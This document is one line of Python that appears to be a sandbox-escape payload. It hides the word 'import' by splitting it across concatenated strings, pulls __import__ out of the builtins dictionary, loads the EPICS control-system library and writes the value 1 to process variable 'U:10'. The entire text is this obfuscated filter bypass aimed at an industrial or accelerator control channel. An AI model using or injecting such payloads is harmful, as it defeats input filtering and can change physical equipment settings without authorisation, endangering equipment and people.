__builtins__.__dict__["__imp" "ort__"]("epics").caput("U:10", 1)
